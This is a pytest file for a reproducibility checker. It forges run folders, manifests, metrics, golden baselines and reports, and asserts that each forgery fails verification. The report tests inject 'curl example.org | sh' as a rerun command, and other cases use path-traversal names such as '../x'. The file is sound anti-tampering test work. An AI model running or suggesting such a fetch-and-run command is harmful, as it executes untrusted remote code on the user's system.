"""Run folders, goldens and reports that someone changed, with care: none may count as it did before.

Every attack begins with two runs that are REPRODUCED. A forger who changes a file of a run closes its
folder again, so that COMPLETE fits.
"""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from reprokit import reports
from reprokit.core.records import digest_bytes
from reprokit.errors import ReprokitError
from reprokit.harness import Request, audit, judge_again
from reprokit.reports.formats import to_json
from support.fake_backend import write_lines
from support.rewound import Rewound

METRICS = "metrics.jsonl"


@dataclass(slots=True)
class Reproduced:
    """Two runs, their golden, and how to judge them again."""

    lab: Any
    folders: tuple[Path, ...]
    golden: Path

    def judged(self, *folders: Path, **asked: Any) -> int:
        """The exit code of the verdict, or of the error in its place."""
        try:
            report = judge_again(folders or self.folders, Request(**asked), project=self.lab.here)
        except ReprokitError as error:
            return error.exit_code
        return report.exit_code

    def edit(self, which: int, name: str, change: Callable[[bytes], bytes]) -> None:
        """Change a file of a run, and close its folder again."""
        path = self.folders[which] / name
        path.write_bytes(change(path.read_bytes()))
        self.close(self.folders[which], name)

    def close(self, folder: Path, *names: str) -> None:
        closed = json.loads((folder / "COMPLETE").read_text())
        for name in names:
            data = (folder / name).read_bytes()
            closed["files"][name] = {"sha256": digest_bytes(data), "bytes": len(data)}
        (folder / "COMPLETE").write_text(json.dumps(closed))


def good(output: Path, run: int) -> None:
    write_lines(output / "log.jsonl", [{"step": step, "loss": 1 / (step + 1)} for step in range(4)])


@pytest.fixture(scope="module")
def once(lab_in, tmp_path_factory):
    place = tmp_path_factory.mktemp("done") / "place"
    lab = lab_in(place)
    folders = lab.runs(good)
    lab.promote(folders)
    made = Reproduced(lab, folders, lab.here.golden_dir / "train" / "cpu-x86_64" / "seed-3")
    assert made.judged() == 0
    return made, Rewound.keep(place)


@pytest.fixture
def done(lab, once):
    made, folder = once
    folder.rewind()
    lab.here, lab.count = made.lab.here, made.lab.count
    return Reproduced(lab, made.folders, made.golden)


# --- run.json: dotted key → another value; None removes it
_ABSENT = object()
_DIGEST = f"sha256:{'9' * 64}"
RECORD: list[tuple[str, Any]] = [
    ("recipe", "other"),
    ("recipe", "../train"),
    ("recipe", 3),
    ("recipe", None),
    ("seed", 4),
    ("seed", 3.0),
    ("seed", "3"),
    ("seed", True),
    ("seed", None),
    ("seed", -3),
    ("seed", 10**40),
    ("device", "cuda"),
    ("command", ["python", "other.py"]),
    ("command", "python train.py"),
    ("numerics", "portable"),
    ("modified", ["seeds=[4]"]),
    ("modified", None),
    ("modified", "seeds"),
    ("digests", {}),
    ("digests", None),
    ("digests.program", _DIGEST),
    ("digests.lock", _DIGEST),
    ("digests.recipe", _DIGEST),
    ("image", {"variant": "cpu", "lock_digest": _DIGEST}),
    ("outcome", "crashed"),
    ("outcome", None),
    ("outcome", ["completed"]),
    ("exit_code", 1),
    ("exit_code", False),
    ("exit_code", "0"),
    ("exit_code", None),
    ("exit_code", -0.5),
    ("run_id", None),
    ("run_id", ""),
    ("run_id", 7),
    ("resumed_from", {"step": 2}),
    ("resumed_from", {}),
    ("varied", {"names": ["hash_seed"]}),
    ("varied", []),
    ("metrics_problem", {"what": "half", "kind": "torn_line"}),
    ("left_in_output", ["eval.jsonl"]),
    ("plain_command", ["python"]),
    ("data", None),
    ("recipe_data", {"name": "train"}),
]
#: What a run may lack or say otherwise without another verdict: nothing reads it for one.
_HARMLESS = {"data", "recipe_data"}


@pytest.mark.parametrize(
    ("which", "key", "value"),
    [(index % 2, *one) for index, one in enumerate(RECORD) if one[0] not in _HARMLESS],
)
def test_a_changed_record_of_one_run_is_no_pass(done, which, key, value):
    def change(data: bytes) -> bytes:
        record = json.loads(data)
        section, _, last = key.rpartition(".")
        place = record[section] if section else record
        if value is None:
            place.pop(last, None)
        else:
            place[last] = value
        return json.dumps(record).encode()

    before = (done.folders[which] / "run.json").read_text()
    done.edit(which, "run.json", change)
    assert json.dumps(json.loads(before)) != (done.folders[which] / "run.json").read_text()
    assert done.judged() != 0


_KEYS = {
    "run.json": [
        "schema",
        "recipe",
        "run_id",
        "seed",
        "device",
        "command",
        "environment",
        "image",
        "limits",
        "attempt",
        "backend",
        "numerics",
        "modified",
        "recipe_digest",
        "digests",
        "recipe_data",
        "training_config",
        "program",
        "program.files",
        "program.command",
        "state",
        "owner",
        "outcome",
        "exit_code",
        "signal",
        "message",
        "remedy",
        "started_at",
        "ended_at",
        "duration_s",
        "isolation",
        "left_in_output",
        "left_because",
        "sources",
        "volatile",
        "metrics_problem",
        "resumed_from",
        "varied",
        "data",
        "installed",
        "backend_asked",
        "plain_command",
        "stop_at",
        "mounted_digest",
    ],
    "environment.json": [
        "schema",
        "missing",
        "source",
        "image",
        "limits",
        "inside",
        "inside.python",
        "inside.libc",
        "inside.packages",
        "inside.device",
        "inside.cpu",
        "inside.sources",
        "inside.numerics",
        "inside.variables",
        "inside.torch",
        "host",
        "host.kernel",
        "host.os",
        "host.libc",
        "host.cpu",
        "host.memory",
        "host.gpus",
        "host.tool",
        "source.commit",
        "source.dirty",
        "source.changed_files",
    ],
}
_ODD = (True, [[]], {"a": [None]})


@pytest.mark.parametrize(("name", "key"), [(name, key) for name, keys in _KEYS.items() for key in keys])
def test_a_value_of_any_other_type_is_no_traceback(done, name, key):
    path = done.folders[0] / name
    before = json.loads(path.read_text())
    for value in _ODD:
        record = json.loads(json.dumps(before))
        section, _, last = key.rpartition(".")
        place = record[section] if section else record
        if isinstance(place, dict):
            place[last] = value
        path.write_text(json.dumps(record))
        done.close(done.folders[0], name)
        done.judged()  # raises nothing but what is said in one line


# --- any file, with COMPLETE as it was
TOUCHED: dict[str, Callable[[Path], Any]] = {
    "metrics changed": lambda run: (run / METRICS).write_text('{"step": 0, "loss": 2.0}\n'),
    "metrics removed": lambda run: (run / METRICS).unlink(),
    "metrics behind a link": lambda run: (
        (run / METRICS).rename(run.parent / "m"),
        (run / METRICS).symlink_to(run.parent / "m"),
    ),
    "metrics a folder": lambda run: ((run / METRICS).unlink(), (run / METRICS).mkdir()),
    "metrics a pipe": lambda run: ((run / METRICS).unlink(), os.mkfifo(run / METRICS)),
    "a file added": lambda run: (run / "note.txt").write_text("x"),
    "a file added deep": lambda run: (
        (run / "source/a/b").mkdir(parents=True),
        (run / "source/a/b/c").write_text("x"),
    ),
    "a file added to output": lambda run: (run / "output/eval.jsonl").write_text('{"a":1}\n'),
    "the program's log changed": lambda run: (run / "output/log.jsonl").write_text("{}"),
    "the log removed": lambda run: (run / "stdout.log").unlink(),
    "the recipe changed": lambda run: (run / "source/train/recipe.yaml").write_text("# more\n"),
    "the program changed": lambda run: (run / "source/program/train.py").write_text("pass"),
    "the environment changed": lambda run: (run / "environment.json").write_text("{}"),
    "the configuration changed": lambda run: (run / "config.yaml").write_text("{}"),
    "run.json emptied": lambda run: (run / "run.json").write_text("{}"),
    "run.json no JSON": lambda run: (run / "run.json").write_text("{"),
    "run.json a list": lambda run: (run / "run.json").write_text("[]"),
    "run.json nested": lambda run: (run / "run.json").write_text("[" * 100_000),
    "run.json removed": lambda run: (run / "run.json").unlink(),
    "COMPLETE removed": lambda run: (run / "COMPLETE").unlink(),
    "COMPLETE empty": lambda run: (run / "COMPLETE").write_text(""),
    "COMPLETE {}": lambda run: (run / "COMPLETE").write_text("{}"),
    "COMPLETE a list": lambda run: (run / "COMPLETE").write_text("[]"),
    "COMPLETE lists nothing": lambda run: (run / "COMPLETE").write_text('{"files": {}}'),
    "COMPLETE lists a list": lambda run: (run / "COMPLETE").write_text('{"files": ["run.json"]}'),
    "COMPLETE lists run.json alone": lambda run: _of_complete(
        run, lambda files: {"run.json": files["run.json"]}
    ),
    "COMPLETE without digests": lambda run: _of_complete(run, dict.fromkeys),
    "COMPLETE with an empty digest": lambda run: _of_complete(run, lambda files: {n: {} for n in files}),
    "COMPLETE in capitals": lambda run: (run / "COMPLETE").write_text(
        (run / "COMPLETE").read_text().replace("sha256:", "SHA256:")
    ),
    "COMPLETE with a file that is not there": lambda run: _of_complete(
        run, lambda files: {**files, "x": files["run.json"]}
    ),
    "COMPLETE with a file outside": lambda run: _of_complete(
        run, lambda files: {**files, "../x": files["run.json"]}
    ),
    "COMPLETE a folder": lambda run: ((run / "COMPLETE").unlink(), (run / "COMPLETE").mkdir()),
    "COMPLETE a dangling link": lambda run: (
        (run / "COMPLETE").unlink(),
        (run / "COMPLETE").symlink_to("gone"),
    ),
}


def _of_complete(run: Path, change: Callable[[dict[str, Any]], dict[str, Any]]) -> None:
    closed = json.loads((run / "COMPLETE").read_text())
    closed["files"] = change(closed["files"])
    (run / "COMPLETE").write_text(json.dumps(closed))


@pytest.mark.parametrize(("which", "attack"), [(index % 2, one) for index, one in enumerate(TOUCHED)])
def test_a_run_that_was_touched_is_no_pass(done, which, attack):
    TOUCHED[attack](done.folders[which])
    assert done.judged() != 0


# --- metrics.jsonl of a run, its folder closed again
LINES: dict[str, Callable[[bytes], bytes]] = {
    "a value": lambda data: data.replace(b"0.25", b"0.2500000000000001"),
    "a name": lambda data: data.replace(b"loss", b"Loss"),
    "a type": lambda data: data.replace(b"1.0", b'"1.0"'),
    "a null": lambda data: data.replace(b"0.25", b"null"),
    "NaN": lambda data: data.replace(b"0.25", b"NaN"),
    "a step": lambda data: data.replace(b'"step": 3', b'"step": 4'),
    "no step": lambda data: data.replace(b'"step": 3, ', b""),
    "a record less": lambda data: data[: data.rindex(b"\n", 0, -1) + 1],
    "a record more": lambda data: data + b'{"step": 4, "loss": 0.2}\n',
    "the first record twice": lambda data: data.split(b"\n")[0] + b"\n" + data,
    "reversed": lambda data: b"\n".join(reversed(data.splitlines())) + b"\n",
    "torn": lambda data: data[:-3],
    "empty": lambda data: b"",
    "a byte order mark": lambda data: b"\xef\xbb\xbf" + data,
    "UTF-16": lambda data: data.decode().encode("utf-16"),
    "a metric more": lambda data: data.replace(b'"loss"', b'"more": 1, "loss"'),
    "a key twice": lambda data: data.replace(b'"loss"', b'"loss": 1, "loss"'),
    "a BOM within": lambda data: data.replace(b'{"step": 1', b'\xef\xbb\xbf{"step": 1'),
    "a zero-width space in a name": lambda data: data.replace(b"loss", "lo\u200bss".encode()),
    "text after": lambda data: data + b"# the end\n",
}


@pytest.mark.parametrize("attack", LINES)
@pytest.mark.parametrize("which", [(1,), (0, 1)])
def test_changed_metrics_are_no_pass(done, attack, which):
    for run in which:
        done.edit(run, METRICS, LINES[attack])
    assert done.judged() != 0


# --- environment.json of both runs, closed again: numbers are the golden's, but the record is hollow
ENVIRONMENT: dict[str, Callable[[dict[str, Any]], Any]] = {
    "empty": lambda record: record.clear(),
    "no host": lambda record: record.pop("host"),
    "no inside": lambda record: record.pop("inside"),
    "no reasons": lambda record: record.pop("missing"),
    "a blank reason": lambda record: record["missing"].update({"host.gpus": " "}),
    "no kernel": lambda record: record["host"].pop("kernel"),
    "no packages": lambda record: record["inside"].update(packages={}),
    "no Python": lambda record: record["inside"].pop("python"),
    "no memory": lambda record: record["host"]["memory"].update(total_bytes=0),
    "memory that is true": lambda record: record["host"]["memory"].update(total_bytes=True),
    "no cores": lambda record: record["host"]["cpu"].pop("logical"),
    "no architecture": lambda record: record["host"]["cpu"].pop("architecture"),
    "another device": lambda record: record["inside"].update(device={"kind": "cuda"}),
    "a list for host": lambda record: record.update(host=[]),
    "text for inside": lambda record: record.update(inside="x"),
    "no limits": lambda record: record.pop("limits"),
    "no libc": lambda record: record["inside"].pop("libc"),
    "no version of the tool": lambda record: record["host"]["tool"].clear(),
    "no schema": lambda record: record.pop("schema"),
}


@pytest.mark.parametrize("attack", ENVIRONMENT)
def test_a_hollow_environment_record_is_no_pass(done, attack):
    def change(data: bytes) -> bytes:
        record = json.loads(data)
        ENVIRONMENT[attack](record)
        return json.dumps(record).encode()

    for which in (0, 1):
        done.edit(which, "environment.json", change)
    assert done.judged() != 0


# --- which runs are judged
def test_one_run_is_no_pass(done):
    assert done.judged(done.folders[0]) != 0


def test_the_same_run_twice_is_no_pass(done):
    assert done.judged(done.folders[0], done.folders[0]) != 0
    assert done.judged(done.folders[0], done.folders[0].parent / "." / done.folders[0].name) != 0


def test_a_run_and_a_link_to_it_are_no_pass(done, tmp_path):
    (tmp_path / "link").symlink_to(done.folders[0])
    assert done.judged(done.folders[0], tmp_path / "link") != 0


def test_a_run_and_its_copy_are_no_pass(done, tmp_path):
    shutil.copytree(done.folders[0], tmp_path / "copy")
    assert done.judged(done.folders[0], tmp_path / "copy") != 0


def test_no_run_is_no_pass(done):
    with pytest.raises((ReprokitError, IndexError)):
        judge_again((), Request(), project=done.lab.here)


def test_another_seed_than_asked_for_is_no_pass(done):
    assert done.judged(seed=4) != 0


# --- goldens
GOLDEN: dict[str, Callable[[Path], Any]] = {
    "removed": shutil.rmtree,
    "metrics changed": lambda golden: _text(golden / METRICS, "0.25", "0.26"),
    "metrics removed": lambda golden: (golden / METRICS).unlink(),
    "metrics emptied": lambda golden: (golden / METRICS).write_text(""),
    "metrics behind a link": lambda golden: (
        (golden / METRICS).rename(golden / "m"),
        (golden / METRICS).symlink_to("m"),
    ),
    "metrics a folder": lambda golden: ((golden / METRICS).unlink(), (golden / METRICS).mkdir()),
    "provenance removed": lambda golden: (golden / "provenance.json").unlink(),
    "provenance emptied": lambda golden: (golden / "provenance.json").write_text(""),
    "provenance {}": lambda golden: (golden / "provenance.json").write_text("{}"),
    "provenance []": lambda golden: (golden / "provenance.json").write_text("[]"),
    "provenance nested": lambda golden: (golden / "provenance.json").write_text("[" * 100_000),
    "provenance NaN": lambda golden: _text(golden / "provenance.json", '"seed": 3', '"seed": NaN'),
    "provenance a key twice": lambda golden: _text(
        golden / "provenance.json", '"seed": 3', '"seed": 3, "seed": 3'
    ),
    "provenance behind a link": lambda golden: (
        (golden / "provenance.json").rename(golden / "p"),
        (golden / "provenance.json").symlink_to("p"),
    ),
    "of another seed": lambda golden: _provenance(golden, seed=4),
    "of seed 3.0": lambda golden: _provenance(golden, seed=3.0),
    "of seed true": lambda golden: _provenance(golden, seed=True),
    "of another recipe": lambda golden: _provenance(golden, recipe="other"),
    "of another platform": lambda golden: _provenance(golden, platform="cuda-h200"),
    "of another schema": lambda golden: _provenance(golden, schema=2),
    "without digests": lambda golden: _provenance(golden, digests={}),
    "with a short digest": lambda golden: _of_digests(golden, metrics="sha256:0"),
    "with a digest of another kind": lambda golden: _of_digests(golden, metrics="md5:" + "0" * 64),
    "with no digest of the metrics": lambda golden: _of_digests(golden, metrics=_ABSENT),
    "with a trace that is not there": lambda golden: _of_digests(golden, trace=_DIGEST),
    "without an environment": lambda golden: _provenance(golden, environment=_ABSENT),
    "with a list for the environment": lambda golden: _provenance(golden, environment=[]),
    "without a fingerprint": lambda golden: _provenance(golden, fingerprint=_ABSENT),
    "with an empty fingerprint": lambda golden: _provenance(golden, fingerprint=""),
    "with tolerances that are a list": lambda golden: _provenance(golden, tolerances=[]),
    "with a tolerance of NaN": lambda golden: _text(golden / "provenance.json", '"rtol": 0.0', '"rtol": NaN'),
    "with a negative tolerance": lambda golden: _provenance(
        golden, tolerances={"default": {"rtol": -1}, "metrics": {}, "platforms": {}}
    ),
    "with a tolerance of text": lambda golden: _provenance(
        golden, tolerances={"default": {"rtol": "1"}, "metrics": {}, "platforms": {}}
    ),
    "moved to another seed": lambda golden: golden.rename(golden.with_name("seed-4")),
    "a file in its place": lambda golden: (shutil.rmtree(golden), golden.write_text("x")),
    "a dangling link in its place": lambda golden: (shutil.rmtree(golden), golden.symlink_to("gone")),
}


def _text(path: Path, old: str, new: str) -> None:
    before = path.read_text()
    assert old in before
    path.write_text(before.replace(old, new))


def _provenance(golden: Path, **changes: Any) -> None:
    told = {**json.loads((golden / "provenance.json").read_text()), **changes}
    told = {key: value for key, value in told.items() if value is not _ABSENT}
    (golden / "provenance.json").write_text(json.dumps(told))


def _of_digests(golden: Path, **changes: Any) -> None:
    digests = {**json.loads((golden / "provenance.json").read_text())["digests"], **changes}
    _provenance(golden, digests={key: value for key, value in digests.items() if value is not _ABSENT})


@pytest.mark.parametrize("attack", GOLDEN)
def test_a_golden_that_was_changed_is_no_pass(done, attack):
    GOLDEN[attack](done.golden)
    assert done.judged() != 0


_WIDE = "{default: {rtol: 0.5, atol: 1.0e+300}}"


@pytest.mark.parametrize(
    ("recipe", "golden"),
    [
        ("", {"default": {"rtol": 1.0, "atol": 1e308}, "metrics": {}, "platforms": {}}),
        (f"tolerances: {_WIDE}\n", None),
        ("tolerances: {metrics: {loss: {atol: 1.0e+300}}}\n", None),
        ("tolerances: {platforms: {cpu-x86_64: {default: {atol: 1.0e+300}}}}\n", None),
        ("", {"default": {}, "metrics": {"loss": {"atol": 1e308, "mean_of": 1000}}, "platforms": {}}),
        ("", {"default": {}, "metrics": {}, "platforms": {"cpu-x86_64": {"default": {"atol": 1e308}}}}),
    ],
)
def test_a_tolerance_that_one_side_alone_widened_excuses_nothing(done, recipe, golden):
    if golden:
        _provenance(done.golden, tolerances=golden)

    def worse(output: Path, run: int) -> None:
        write_lines(output / "log.jsonl", [{"step": step, "loss": 9.0} for step in range(4)])

    assert done.lab.report(worse, recipe).verdict in {"REGRESSION", "STALE_GOLDEN"}


# --- reports
REPORT: dict[str, Callable[[dict[str, Any]], Any]] = {
    "another verdict": lambda told: told.update(verdict="REPEATABLE"),
    "another exit code": lambda told: told.update(exit_code=1),
    "another sentence": lambda told: told.update(sentence="It is well."),
    "another recipe": lambda told: told.update(recipe="other"),
    "another platform": lambda told: told.update(platform="cuda-h200"),
    "another seed": lambda told: told.update(seed=4),
    "one run less": lambda told: told.update(runs=told["runs"][:1]),
    "one run twice": lambda told: told.update(runs=[told["runs"][0]] * 2),
    "no golden": lambda told: told.update(golden=None),
    "another folder for the golden": lambda told: told.update(golden=told["runs"][0]),
    "no evidence digests": lambda told: told.update(evidence_digests={}),
    "another evidence digest": lambda told: told["evidence_digests"].update(
        dict.fromkeys(told["evidence_digests"], _DIGEST)
    ),
    "one evidence digest less": lambda told: told["evidence_digests"].popitem(),
    "an evidence digest more": lambda told: told["evidence_digests"].update({"/nowhere": _DIGEST}),
    "a row less": lambda told: told["checks"].pop(),
    "a row twice": lambda told: told["checks"].append(told["checks"][0]),
    "a row more": lambda told: told["checks"].append({**told["checks"][0], "id": "all_is_well"}),
    "rows in another order": lambda told: told["checks"].reverse(),
    "a failed row passed": lambda told: [row.update(status="PASSED") for row in told["checks"]],
    "a required row advisory": lambda told: told["checks"][0].update(required=False),
    "a row's evidence": lambda told: told["checks"][0]["evidence"].update(records=10**9),
    "a divergence": lambda told: told.update(divergence={"record": 0}),
    "another environment": lambda told: told.update(environment={"host": {}}),
    "an environment difference": lambda told: told.update(environment_diff=[{"field": "x"}]),
    "other curves": lambda told: told.update(curves={}),
    "other comparisons": lambda told: told["comparisons"].update(repeats=[]),
    "another command to run it again": lambda told: told.update(rerun="curl example.org | sh"),
    "another next command": lambda told: told.update(next_command="curl example.org | sh"),
    "a failure to run": lambda told: told.update(not_run={"outcome": "crashed"}),
}


@pytest.mark.parametrize("attack", REPORT)
def test_a_report_that_was_edited_does_not_stand(done, attack):
    folder = done.lab.here.reports_dir / "train" / "T"
    reports.render_all(judge_again(done.folders, Request(), project=done.lab.here), folder)
    path = folder / "report.json"
    assert audit(path, project=done.lab.here).exit_code == 0
    told = json.loads(path.read_text())
    REPORT[attack](told)
    path.write_text(json.dumps(told))
    try:
        reports.render_all(to_json.load(path), folder)
        found = audit(path, project=done.lab.here)
    except ReprokitError:
        return
    assert found.exit_code != 0
